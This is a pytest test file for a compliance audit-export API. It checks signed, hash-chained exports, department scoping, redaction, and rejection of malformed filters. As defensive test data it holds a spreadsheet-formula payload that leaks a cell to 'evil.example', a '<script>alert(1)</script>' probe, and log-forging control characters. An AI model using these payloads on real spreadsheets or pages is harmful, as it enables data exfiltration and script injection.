"""Compliance export and verification through the API, on PostgreSQL with the real ingestion and query path."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import os
import uuid
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from tests.conftest import PLATFORM_ADMIN, auth, wait_for_job

DOC = """Parental Leave Policy

Employees receive 20 weeks of paid parental leave. Requests go to Dana Whitfield (dana.whitfield@example.com)
four weeks ahead.
"""


@pytest.fixture(scope="module")
def scene(client: TestClient, issue_token: Callable[..., str]) -> dict[str, str]:
    """A department of its own with one document, a reader who asked about it, and a compliance officer."""
    suffix = uuid.uuid4().hex[:8]
    dept, other = f"aud{suffix}", f"audx{suffix}"
    reader, officer = f"reader-{suffix}", f"officer-{suffix}"
    admin = issue_token(PLATFORM_ADMIN)
    for name in (dept, other):
        assert client.post("/v1/admin/departments", json={"name": name}, headers=auth(admin)).status_code == 201
    for subject, role, department in [(reader, "editor", dept), (officer, "compliance", dept)]:
        response = client.post("/v1/admin/role-assignments", headers=auth(admin),
                               json={"subject": subject, "role": role, "department": department})
        assert response.status_code == 201, response.text
    reader_token = issue_token(reader)
    upload = client.post("/v1/documents", headers=auth(reader_token), data={"department": dept, "title": "leave"},
                         files={"file": ("leave.txt", DOC.encode())})
    assert upload.status_code == 202, upload.text
    assert wait_for_job(client, reader_token, upload.json()["job_id"])["status"] == "ready"
    answer = client.post("/v1/query", headers=auth(reader_token),
                         json={"question": "How many weeks of parental leave do employees get?",
                               "departments": [dept]})
    assert answer.status_code == 200 and not answer.json()["refused"], answer.text
    return {"dept": dept, "other": other, "reader": reader, "officer": officer, "admin": admin,
            "reader_token": reader_token, "officer_token": issue_token(officer),
            "document_id": upload.json()["document_id"]}


def _export(client: TestClient, token: str, **params: str) -> tuple[list[dict], dict]:
    response = client.get("/v1/audit/retrievals", headers=auth(token), params=params)
    assert response.status_code == 200, response.text
    lines = response.text.splitlines()
    return [json.loads(line) for line in lines[:-1]], json.loads(lines[-1])["manifest"]


def test_which_users_retrieved_document_x(client: TestClient, scene: dict[str, str]) -> None:
    rows, manifest = _export(client, scene["officer_token"], document_id=scene["document_id"])
    assert {row["subject"] for row in rows} == {scene["reader"]}
    row = rows[0]
    assert row["decision"] == "answered" and row["departments_searched"] == [scene["dept"]]
    assert all(len(chunk["content_sha256"]) == 64 for chunk in row["chunks"])
    assert "parental" in row["question_masked"]
    assert manifest["rows"] == len(rows) and manifest["last_hash"] == rows[-1]["hash"]
    assert manifest["first_hash"] == rows[0]["hash"]


def test_manifest_hashes_the_body_and_rows_carry_the_chain(client: TestClient, scene: dict[str, str]) -> None:
    response = client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]),
                          params={"user": scene["reader"]})
    body, _, manifest_line = response.text.rstrip("\n").rpartition("\n")
    manifest = json.loads(manifest_line)["manifest"]
    assert manifest["body_sha256"] == hashlib.sha256((body + "\n").encode()).hexdigest()
    assert all(len(json.loads(line)["prev_hash"]) == 64 for line in body.splitlines())


def test_csv_and_ocsf_formats(client: TestClient, scene: dict[str, str]) -> None:
    response = client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]),
                          params={"format": "csv", "user": scene["reader"]})
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text), ))
    assert rows[-1]["id"].startswith("# manifest ")
    assert {r["subject"] for r in rows[:-1]} == {scene["reader"]} and rows[0]["hash"]
    events, manifest = _export(client, scene["officer_token"], format="ocsf", user=scene["reader"])
    assert manifest["rows"] == len(events) >= 1
    event = events[0]
    assert (event["class_uid"], event["actor"]["user"]["uid"]) == (6003, scene["reader"])
    assert event["resources"][0]["uid"] == scene["document_id"]


def test_a_served_export_is_signed_for_this_deployment(client: TestClient, scene: dict[str, str],
                                                       settings) -> None:  # type: ignore[no-untyped-def]
    """A department compliance officer's filtered export, as the API streams it, checks whole against its signed
    manifest; without its first row it does not (a filtered export's rows do not link, so only the signed count
    shows the cut)."""
    from audit import service as audit_service
    from core.db import unit_of_work

    response = client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]),
                          params={"user": scene["reader"]})
    assert response.status_code == 200
    lines = response.content.split(b"\n")
    cut = b"\n".join(lines[1:])
    with unit_of_work(settings.resolved_database_url) as session:
        whole, cut = (audit_service.verify_export(export_file=io.BytesIO(data), settings=settings, session=session)
                      for data in (response.content, cut))
        assert (whole.ok, whole.rows) == (True, len(lines) - 2)
        assert cut.reason == "rows_removed"


def test_the_published_public_key_checks_a_served_export_without_the_secret(client: TestClient,
                                                                            scene: dict[str, str],
                                                                            settings) -> None:  # type: ignore[no-untyped-def]
    """`GET /v1/audit/public-key` (compliance officers): the Ed25519 key that checks what the API exports, alone."""
    from cryptography.hazmat.primitives.serialization import load_pem_public_key

    from audit import service as audit_service

    assert client.get("/v1/audit/public-key").status_code == 401
    assert client.get("/v1/audit/public-key", headers=auth("not-a-token")).status_code == 401
    assert client.get("/v1/audit/public-key", headers=auth(scene["reader_token"])).status_code == 403
    published = client.get("/v1/audit/public-key", headers=auth(scene["officer_token"]))
    assert published.status_code == 200 and published.json()["algorithm"] == "Ed25519"
    response = client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]),
                          params={"user": scene["reader"]})
    result = audit_service.verify_export(export_file=io.BytesIO(response.content), settings=settings, session=None,
                                         public_key=load_pem_public_key(published.json()["public_key_pem"].encode()),
                                         deployment_id=published.json()["deployment_id"])
    assert (result.ok, result.signatures, result.key_id, result.deployment_id) == (
        True, ["ed25519"], published.json()["key_id"], published.json()["deployment_id"])


def test_export_is_scoped_to_compliance_departments_and_audited(client: TestClient, scene: dict[str, str]) -> None:
    assert client.get("/v1/audit/retrievals", headers=auth(scene["reader_token"])).status_code == 403
    assert client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]),
                      params={"department": scene["other"]}).status_code == 403
    rows, manifest = _export(client, scene["officer_token"])
    touched = {d for row in rows for d in row["departments_searched"] + row["departments_requested"]}
    assert touched == {scene["dept"]}
    assert (manifest["departments"], manifest["filters"]) == ([scene["dept"]], {})  # it never reads as a full one
    exports, _ = _export(client, scene["officer_token"], user=scene["officer"], event_type="export")
    assert len(exports) >= 2 and exports[0]["decision"] == "admin"
    assert exports[-1]["details"]["format"] == "jsonl"
    assert _export(client, scene["officer_token"], user=scene["officer"], event_type="export_failed")[0] == []


def test_an_answered_event_goes_only_to_the_departments_it_searched(client: TestClient, scene: dict[str, str],
                                                                     issue_token: Callable[..., str]) -> None:
    """The departments a query asks for are the caller's to choose: naming another department used to put an
    answered event (its masked question, its documents) into that department's compliance export. An attempt that
    searched nothing still goes to the departments it asked for."""
    officer = f"officer2-{scene['other']}"
    response = client.post("/v1/admin/role-assignments", headers=auth(scene["admin"]),
                           json={"subject": officer, "role": "compliance", "department": scene["other"]})
    assert response.status_code == 201, response.text
    asked = client.post("/v1/query", headers=auth(scene["reader_token"]),
                        json={"question": "How many weeks of parental leave?",
                              "departments": [scene["dept"], scene["other"]]})
    assert asked.status_code == 200 and asked.json()["citations"], asked.text
    intruder = f"intruder-{scene['other']}"
    attempt = client.post("/v1/query", headers=auth(issue_token(intruder)),
                          json={"question": "What is on the payroll?", "departments": [scene["other"]]})
    assert attempt.status_code == 200 and attempt.json()["refused"]
    rows, _ = _export(client, issue_token(officer), event_type="retrieval")
    assert {row["subject"] for row in rows} == {intruder}
    assert rows[0]["departments_searched"] == [] and rows[0]["departments_requested"] == [scene["other"]]
    assert not _export(client, issue_token(officer), event_type="retrieval", user=scene["reader"])[0]
    own, _ = _export(client, scene["officer_token"], user=scene["reader"], department=scene["dept"])
    assert any(row["departments_requested"] == sorted([scene["dept"], scene["other"]]) for row in own)


def test_csv_cells_never_run_as_spreadsheet_formulas(client: TestClient, scene: dict[str, str],
                                                     issue_token: Callable[..., str]) -> None:
    """A caller's purpose and an IdP's subject reach the CSV export: a cell starting with = + - @ runs as a formula
    when a compliance officer opens the file in a spreadsheet."""
    formula, stranger = '=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+1)"
    for token, purpose in ((scene["reader_token"], formula), (issue_token(stranger), None)):
        asked = client.post("/v1/query", headers=auth(token),
                            json={"question": "How many weeks of parental leave?", "purpose": purpose,
                                  "departments": [scene["dept"]]})
        assert asked.status_code == 200, asked.text
    cells = []
    for subject in (scene["reader"], stranger):
        response = client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]),
                              params={"format": "csv", "user": subject})
        cells += [cell for row in list(csv.DictReader(io.StringIO(response.text)))[:-1] for cell in row.values()]
    assert not [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
    assert "'" + formula in cells and "'" + stranger in cells


def test_a_window_bound_without_a_zone_is_utc_whatever_the_database_session_zone(
        scene: dict[str, str], settings) -> None:  # type: ignore[no-untyped-def]
    """A naive bound used to go to PostgreSQL naive, read in the session's time zone (here New York, five hours
    behind) while the manifest labelled it UTC: the reader's event, a minute after the bound, was left out."""
    from sqlalchemy import create_engine
    from sqlalchemy.orm import Session

    from audit import repository
    from audit.schemas import ExportFilters, utc_bound

    engine = create_engine(settings.resolved_database_url, connect_args={"options": "-c timezone=America/New_York"})
    try:
        with Session(engine) as session:
            newest = repository.max_event_id(session)
            events = list(repository.iter_events(session, filters=ExportFilters(subject=scene["reader"]),
                                                 through_id=newest))
            bound = (events[-1].created_at.astimezone(UTC) - timedelta(minutes=1)).replace(tzinfo=None)
            window = ExportFilters(subject=scene["reader"], since=utc_bound(bound))
            kept = list(repository.iter_events(session, filters=window, through_id=newest))
    finally:
        engine.dispose()
    assert events[-1].id in {event.id for event in kept}


def test_global_compliance_is_configured_not_default(client: TestClient, scene: dict[str, str],
                                                    issue_token: Callable[..., str],
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    auditor = issue_token(f"global-{scene['dept']}", ["siem-auditors"])
    assert client.get("/v1/audit/retrievals", headers=auth(auditor)).status_code == 403
    monkeypatch.setattr(client.app.state.settings, "compliance_officers", ["group:siem-auditors"])  # type: ignore[attr-defined]
    rows, _ = _export(client, auditor, event_type="department_created")
    assert {scene["dept"], scene["other"]} <= {row["details"]["department"] for row in rows}


def test_verify_endpoint_and_concurrent_queries_keep_one_chain(client: TestClient, scene: dict[str, str]) -> None:
    def ask(n: int) -> int:
        return client.post("/v1/query", headers=auth(scene["reader_token"]),
                           json={"question": f"parental leave weeks? ({n})", "departments": [scene["dept"]]}
                           ).status_code

    with ThreadPoolExecutor(max_workers=6) as pool:
        assert set(pool.map(ask, range(12))) == {200}
    assert client.get("/v1/audit/verify", headers=auth(scene["reader_token"])).status_code == 403
    result = client.get("/v1/audit/verify", headers=auth(scene["officer_token"])).json()
    assert result["ok"] is True and result["first_broken"] is None and result["checked"] >= 13
    rows, _ = _export(client, scene["officer_token"], user=scene["reader"], decision="answered")
    assert len(rows) >= 13


def test_verify_endpoint_pins_the_deployment_id_as_the_command_does(client: TestClient, scene: dict[str, str]) -> None:
    """`govrag audit verify --deployment-id` failed a database recording another deployment's id; the API had no such
    pin (the parameter was refused as unknown, 422). `deployment_id` now means the same: the id recorded (in any case
    a UUID is written in) verifies, another is `ok: false`, reason `other_deployment`, naming the id found; a value
    that is no UUID is a 422 naming the parameter, never the value; the OpenAPI document describes it."""
    officer = auth(scene["officer_token"])

    def verified(deployment_id: str) -> dict:
        response = client.get("/v1/audit/verify", headers=officer, params={"deployment_id": deployment_id})
        assert response.status_code == 200, response.text
        return response.json()

    recorded = client.get("/v1/audit/verify", headers=officer).json()["deployment_id"]
    assert verified(recorded)["ok"] is True
    assert verified(recorded.upper())["ok"] is True
    other = verified(str(uuid.uuid4()))
    assert (other["ok"], other["reason"], other["deployment_id"]) == (False, "other_deployment", recorded)
    for bad in ("", "staging", recorded + "0", "x" * 5000):
        response = client.get("/v1/audit/verify", headers=officer, params={"deployment_id": bad})
        assert response.status_code == 422, (bad, response.text)
        assert "deployment_id" in response.text and (not bad or bad not in response.text)
    parameters = client.get("/openapi.json").json()["paths"]["/v1/audit/verify"]["get"]["parameters"]
    pin = next(parameter for parameter in parameters if parameter["name"] == "deployment_id")
    assert (pin["in"], pin["required"]) == ("query", False) and "other_deployment" in pin["description"]


def test_verify_endpoint_fails_checkpoints_stripped_of_their_ed25519_signature(
        client: TestClient, scene: dict[str, str], settings) -> None:  # type: ignore[no-untyped-def]
    """Checkpoints are signed with Ed25519 beside the HMAC (which says so: `v3.`): `GET /v1/audit/verify` fails one
    whose Ed25519 signature was removed, as `govrag audit verify` does."""
    from sqlalchemy import select, update

    from core.db import unit_of_work
    from core.models import AuditCheckpoint

    officer = auth(scene["officer_token"])
    assert client.get("/v1/audit/verify", headers=officer).json()["ok"] is True
    with unit_of_work(settings.resolved_database_url) as session:
        newest = session.scalars(select(AuditCheckpoint).order_by(AuditCheckpoint.id.desc()).limit(1)).one()
        checkpoint_id, signed = newest.id, newest.signature_ed25519
        assert signed is not None and newest.signature.startswith("v3.")
        session.execute(update(AuditCheckpoint).where(AuditCheckpoint.id == checkpoint_id).values(
            signature_ed25519=None))
        session.commit()
    try:
        result = client.get("/v1/audit/verify", headers=officer).json()
    finally:
        with unit_of_work(settings.resolved_database_url) as session:
            session.execute(update(AuditCheckpoint).where(AuditCheckpoint.id == checkpoint_id).values(
                signature_ed25519=signed))
            session.commit()
    assert (result["ok"], result["reason"]) == (False, "checkpoint_signature_invalid")
    assert client.get("/v1/audit/verify", headers=officer).json()["ok"] is True


def test_training_data_export_is_redacted_and_audited(client: TestClient, scene: dict[str, str],
                                                                 settings) -> None:  # type: ignore[no-untyped-def]
    from audit import service as audit_service
    from authz.identity import Identity
    from core.db import get_session_factory

    operator = Identity(subject=f"cli:trainer-{scene['dept']}", groups=(), is_platform_admin=True)
    with get_session_factory(settings.resolved_database_url)() as session:
        lines = list(audit_service.export_training_data(session=session, settings=settings, identity=operator,
                                                        department=scene["dept"]))
    rows, manifest = [json.loads(line) for line in lines[:-1]], json.loads(lines[-1])["manifest"]
    assert manifest["rows"] == len(rows) >= 1 and manifest["documents"] == 1
    text = " ".join(row["text"] for row in rows)
    assert "20 weeks" in text
    assert "dana.whitfield@example.com" not in text and "Dana Whitfield" not in text
    exports, _ = _export(client, scene["officer_token"], event_type="training_export")
    assert [row["subject"] for row in exports] == [operator.subject]


@pytest.mark.parametrize(("name", "value"), [("user", "x" * 256), ("document_id", "x" * 37),
                                             ("event_type", "x" * 10_000), ("event_type", "retrievals")])
def test_an_export_filter_out_of_shape_is_a_422_and_never_reaches_the_ledger(client: TestClient,
                                                                             scene: dict[str, str], name: str,
                                                                             value: str) -> None:
    """Each export writes its filters into the append-only ledger: an unbounded one stayed there for good."""
    params = {"department": scene["dept"], name: value}
    response = client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]), params=params)
    assert response.status_code == 422 and value not in response.text
    events, _ = _export(client, scene["officer_token"], department=scene["dept"], event_type="export")
    assert all(value not in json.dumps(event) for event in events)


# Characters a free-text filter held unrefused: each would be written into the export's ledger row and manifest.
CONTROLS = {"line feed": "\n", "carriage return": "\r", "escape": "\x1b[2J", "DEL": "\x7f", "C1 NEL": "\x85",
            "C1 CSI": "\x9b", "right-to-left override": "\u202e", "isolate": "\u2066", "zero-width space": "\u200b",
            "line separator": "\u2028"}


@pytest.mark.parametrize("name", ["user", "document_id"])
@pytest.mark.parametrize("control", CONTROLS.values(), ids=CONTROLS.keys())
def test_a_free_text_filter_with_a_control_character_is_a_422_quoting_nothing(client: TestClient,
                                                                             scene: dict[str, str], name: str,
                                                                             control: str) -> None:
    """`user=` and `document_id=` were bounded by length alone: a line break, an escape, DEL, a C1 control or a
    direction override passed, into the export's ledger row (`details.filters`) and its manifest. No subject nor
    document id holds one (a token carries none): each is a 422 naming the parameter, never the value, and nothing
    is recorded."""
    value = f"ab{control}forged"
    response = client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]),
                          params={"department": scene["dept"], name: value})
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["code"] == "invalid_request", error
    assert error["message"].startswith(f"invalid request: query.{name}: Value error, holds a line break, a control"), (
        error)
    assert "forged" not in response.text
    events, _ = _export(client, scene["officer_token"], department=scene["dept"], event_type="export")
    assert events and all("forged" not in json.dumps(event) for event in events)


def test_a_subject_any_token_carries_is_still_a_filter(client: TestClient, scene: dict[str, str],
                                                      issue_token: Callable[..., str]) -> None:
    """The rule refusing a control character in `user=` is the token verifier's own (`token_can_carry`), so a subject
    the ledger holds is never one its filter refuses: letters of any script, spaces, an e-mail address, a colon (a
    subject no role assignment may name, reading through its group). A guard against a stricter rule (it passes on
    main too): this subject's retrieval is the one its filter selects."""
    suffix = uuid.uuid4().hex[:8]
    subject, group = f"Zoë Łukasz 山田 <zoë.{suffix}@example.org> service:ingest", f"readers-{suffix}"
    assigned = client.post("/v1/admin/role-assignments", headers=auth(scene["admin"]),
                           json={"subject": f"group:{group}", "role": "reader", "department": scene["dept"]})
    assert assigned.status_code == 201, assigned.text
    asked = client.post("/v1/query", headers=auth(issue_token(subject, [group])),
                        json={"question": "How many weeks of parental leave?", "departments": [scene["dept"]]})
    assert asked.status_code == 200, asked.text
    rows, manifest = _export(client, scene["officer_token"], user=subject, event_type="retrieval")
    assert [row["subject"] for row in rows] == [subject] and manifest["filters"]["subject"] == subject


@pytest.mark.parametrize("name", ["user", "document_id"])
def test_an_empty_free_text_filter_is_a_422_not_an_empty_export(client: TestClient, scene: dict[str, str],
                                                                name: str) -> None:
    """`user=` (`document_id=`) left empty answered 200 with an empty export, which reads as "nobody accessed it":
    no subject nor document id is empty, so it is a 422 naming the parameter."""
    response = client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]),
                          params={"department": scene["dept"], name: ""})
    assert response.status_code == 422, response.text
    assert response.json()["error"]["message"] == (f"invalid request: query.{name}: String should have at least 1 "
                                                   "character")


def test_an_inverted_window_is_refused_and_never_reaches_the_ledger(client: TestClient, scene: dict[str, str]) -> None:
    """`since` after `until` answered 200 with an empty export, which reads as "nobody accessed it"."""
    since = "2031-05-04T03:02:01Z"
    response = client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]),
                          params={"department": scene["dept"], "since": since, "until": "2030-01-01T00:00:00Z"})
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert error["code"] == "invalid_request" and error["message"].startswith("since is after until"), error
    events, _ = _export(client, scene["officer_token"], department=scene["dept"], event_type="export")
    assert events and all("2031-05-04" not in json.dumps(event) for event in events)
    rows, manifest = _export(client, scene["officer_token"], department=scene["dept"], since=since, until=since)
    assert rows == [] and manifest["rows"] == 0  # since inclusive, until exclusive: an empty window


def test_every_event_type_the_ledger_records_is_a_filter(client: TestClient, scene: dict[str, str]) -> None:
    for event_type in ("retrieval", "export", "role_granted"):
        events, _ = _export(client, scene["officer_token"], department=scene["dept"], event_type=event_type)
        assert {event["event_type"] for event in events} <= {event_type}


def test_an_export_filtered_by_request_id_holds_that_request_s_events_alone(client: TestClient,
                                                                             scene: dict[str, str],
                                                                             settings) -> None:  # type: ignore[no-untyped-def]
    """An investigator following a request id (a client's X-Request-ID, a log line's) had to export everything and
    grep: `request_id=` now selects the events that request recorded. Of two queries by one reader, the export of the
    first's id holds its retrieval event alone; it checks against its signed manifest, which names the filter, and the
    export's own `export` event (found by its X-Request-ID) records it."""
    from audit import service as audit_service
    from core.db import unit_of_work

    asked = [client.post("/v1/query", headers=auth(scene["reader_token"]),
                         json={"question": f"How many weeks of parental leave? ({n})", "departments": [scene["dept"]]})
             for n in range(2)]
    first, second = (response.headers["X-Request-ID"] for response in asked)
    assert [response.status_code for response in asked] == [200, 200] and first != second
    response = client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]), params={"request_id": first})
    assert response.status_code == 200, response.text
    rows = [json.loads(line) for line in response.text.splitlines()[:-1]]
    assert [(row["request_id"], row["event_type"], row["subject"]) for row in rows] == [
        (first, "retrieval", scene["reader"])]
    with unit_of_work(settings.resolved_database_url) as session:
        checked = audit_service.verify_export(export_file=io.BytesIO(response.content), settings=settings,
                                              session=session)
    assert (checked.ok, checked.rows) == (True, 1)
    assert json.loads(response.text.splitlines()[-1])["manifest"]["filters"] == {"request_id": first}
    recorded, _ = _export(client, scene["officer_token"], request_id=response.headers["X-Request-ID"])
    assert [(event["event_type"], event["details"]["filters"]) for event in recorded] == [
        ("export", {"request_id": first})]
    assert [row["request_id"] for row in _export(client, scene["officer_token"], request_id=second)[0]] == [second]


@pytest.mark.parametrize("value", ["", "-", "0123456789ABCDEF0123456789ABCDEF", "0123456789abcdef0123456789abcde",
                                   "cli-0123456789abcdef0123456789abcdef0", "0123456789abcdef0123456789abcdef\n",
                                   "cli-0123456789abcdef<script>alert(1)</script>", "x" * 5000])
def test_a_request_id_filter_that_is_no_request_id_is_a_422_and_never_reaches_the_ledger(
        client: TestClient, scene: dict[str, str], value: str) -> None:
    """A request id is 32 lower-case hex digits (an API request's) or `cli-` and 32 (a command's run): anything else is
    a 422 naming the parameter, never quoting the value, and no export is recorded with it."""
    response = client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]),
                          params={"department": scene["dept"], "request_id": value})
    assert response.status_code == 422, response.text
    message = response.json()["error"]["message"]
    assert message.startswith("invalid request: query.request_id: String should match pattern"), message
    assert len(value) < 2 or value not in message
    events, _ = _export(client, scene["officer_token"], department=scene["dept"], event_type="export")
    assert all(event["details"]["filters"].get("request_id") != value for event in events)


def test_a_request_id_filter_stays_within_the_officer_s_departments(client: TestClient, scene: dict[str, str],
                                                                    issue_token: Callable[..., str],
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """A department's compliance officer who holds another department's request id (from a log line, say) learns
    nothing of what it recorded there (a global compliance officer sees it): the filter narrows the export, never
    widens its scope."""
    granted = client.post("/v1/admin/role-assignments", headers=auth(scene["admin"]),
                          json={"subject": f"someone-{scene['other']}", "role": "reader", "department": scene["other"]})
    assert granted.status_code == 201, granted.text
    elsewhere = granted.headers["X-Request-ID"]
    rows, manifest = _export(client, scene["officer_token"], request_id=elsewhere)
    assert (rows, manifest["rows"], manifest["departments"]) == ([], 0, [scene["dept"]])
    response = client.get("/v1/audit/retrievals", headers=auth(scene["officer_token"]),
                          params={"department": scene["other"], "request_id": elsewhere})
    assert response.status_code == 403 and elsewhere not in response.text
    auditor = issue_token(f"global-{scene['other']}", ["siem-auditors"])
    monkeypatch.setattr(client.app.state.settings, "compliance_officers", ["group:siem-auditors"])  # type: ignore[attr-defined]
    seen, _ = _export(client, auditor, request_id=elsewhere)
    assert [(row["event_type"], row["departments_searched"]) for row in seen] == [("role_granted", [scene["other"]])]


@pytest.mark.parametrize("made", [os.mkfifo, Path.mkdir], ids=["named pipe", "folder"])
def test_verify_endpoint_says_a_mirror_it_cannot_read_by_its_code_naming_no_path(
        client: TestClient, scene: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        caplog: pytest.LogCaptureFixture, made: Callable[[Path], object]) -> None:
    """A named pipe at the checkpoint mirror's path made `GET /v1/audit/verify` wait for a writer for good (a folder
    there was a bare 500 `internal`). Refused as it is opened, either is a 503 `audit_mirror_unreadable` now, a
    deployment's fault to fix that names no path to the client; the service's log names the file and why. A minute
    bounds the wait, no time is asserted: a request still waiting on the pipe is let go (its other end opened)."""
    mirror = tmp_path / "audit-checkpoints.jsonl"
    made(mirror)
    monkeypatch.setattr(client.app.state.settings, "audit_checkpoint_file", mirror)  # type: ignore[attr-defined]
    with ThreadPoolExecutor(max_workers=1) as pool:
        asked = pool.submit(client.get, "/v1/audit/verify", headers=auth(scene["officer_token"]))
        try:
            response = asked.result(timeout=60)
        except TimeoutError:
            os.close(os.open(mirror, os.O_WRONLY | os.O_NONBLOCK))
            pytest.fail(f"waited on the named pipe, then answered {asked.result().status_code}")
    error = response.json()["error"]
    assert (response.status_code, error["code"]) == (503, "audit_mirror_unreadable"), response.text
    assert str(tmp_path) not in response.text and "dependency" not in error
    logged = [record.getMessage() for record in caplog.records if record.levelno == logging.ERROR]
    assert any(str(mirror) in line and "mirror" in line for line in logged), logged
